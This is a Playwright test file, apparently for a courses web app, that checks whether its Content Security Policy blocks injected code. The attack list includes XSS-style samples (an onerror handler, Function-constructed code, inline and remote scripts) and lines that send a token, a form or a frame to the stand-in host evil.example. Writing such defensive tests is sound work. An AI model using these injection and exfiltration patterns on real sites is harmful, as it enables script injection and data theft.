import { heading } from '../support/pages/heading';
import { openAs } from '../support/session';
import { expect, test } from '../support/test';

/** What injected code might do, and the directive that must stop it. Run in the page; `owned` must never exist. */
const attacks: readonly { name: string; directive: RegExp; run: () => unknown }[] = [
  {
    name: 'markup with a handler',
    directive: /^require-trusted-types-for/,
    run: () => {
      document.body.innerHTML = '<img src="data:," onerror="owned = 1">';
    },
  },
  {
    name: 'a text made into code',
    directive: /^(require-trusted-types-for|script-src)/,
    // Later, since the tools that drive the browser may do this during their own work.
    run: () =>
      setTimeout(() => {
        try {
          (Reflect.construct(Function, ['owned = 1']) as () => void)();
        } catch {}
      }),
  },
  {
    name: 'an inline script',
    directive: /^(require-trusted-types-for|script-src)/,
    run: () => {
      const script = document.createElement('script');
      script.append('owned = 1');
      document.body.append(script);
    },
  },
  {
    name: 'a script of somebody else',
    directive: /^require-trusted-types-for/,
    run: () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
  },
  {
    name: 'a module of somebody else',
    directive: /^script-src/,
    run: () => import(['https:', '', 'evil.example', 'x.js'].join('/')),
  },
  {
    name: 'a policy that lets everything through',
    directive: /^trusted-types/,
    run: () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('open', {}),
  },
  {
    name: 'an inline style',
    directive: /^style-src/,
    run: () => document.body.setAttribute('style', 'display:none'),
  },
  {
    name: 'sending data elsewhere',
    directive: /^connect-src/,
    run: () => fetch('https://evil.example/?token'),
  },
  {
    name: 'a form that posts elsewhere',
    directive: /^form-action/,
    run: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'a frame of somebody else',
    directive: /^frame-src/,
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  {
    name: 'another base for links',
    directive: /^base-uri/,
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  },
];

test('the policy stops injected code, and what it would send', async ({ page, sandbox, allow }) => {
  allow.violation(
    /^(require-trusted-types|trusted-types|script-src|style-src|connect-src|form-|frame-|base-)/,
  );
  allow.origin('https://evil.example');
  await openAs(page, sandbox, '/courses');
  await expect(heading(page, 'Courses')).toBeVisible();
  for (const { name, directive, run } of attacks) {
    const violated = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const listen = { once: true, signal: AbortSignal.timeout(5000) };
          listen.signal.addEventListener('abort', () => resolve('nothing was violated'));
          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), listen);
        }),
    );
    await page.evaluate(run).catch(() => undefined);
    expect.soft(await violated, name).toMatch(directive);
  }
  expect(await page.evaluate(() => ['owned' in globalThis, location.pathname])).toEqual([false, '/courses']);
});
